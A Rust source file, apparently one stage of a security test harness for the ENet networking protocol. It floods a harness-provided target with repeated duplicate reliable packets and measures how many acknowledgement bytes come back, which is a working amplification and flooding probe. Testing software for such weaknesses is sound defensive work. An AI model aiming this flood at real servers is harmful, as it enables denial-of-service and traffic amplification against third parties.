//! A17: acknowledgements as a weapon.

use std::time::Duration;

use enet_testkit::commands;

use crate::loopback::source;
use crate::session::Session;
use crate::stage::{Finding, Findings, Stage};
use crate::victim::Setup;

/// The same packet again and again; the protocol wants each copy acknowledged.
pub(crate) fn acknowledgements(stage: &Stage<'_>) -> Findings {
    let target = stage.target(Setup::default())?;
    let mut session = Session::open(target.at, source(17), 1)?;
    session.send(&[commands::reliable(0, 1, b"")]);
    session.tend_until(Duration::from_secs(1), |session| session.echoes > 0);
    let (sent, received) = (session.sent, session.received);
    let copies = vec![commands::reliable(0, 1, b""); 100];
    for _ in 0..100 {
        session.send(&copies);
        session.tend(Duration::from_millis(3));
    }
    session.tend(Duration::from_millis(50));
    let (sent, received) = (session.sent - sent, session.received - received);
    Ok(vec![Finding::of(received as f64 / sent as f64).note(format!("{sent} bytes in, {received} out"))])
}
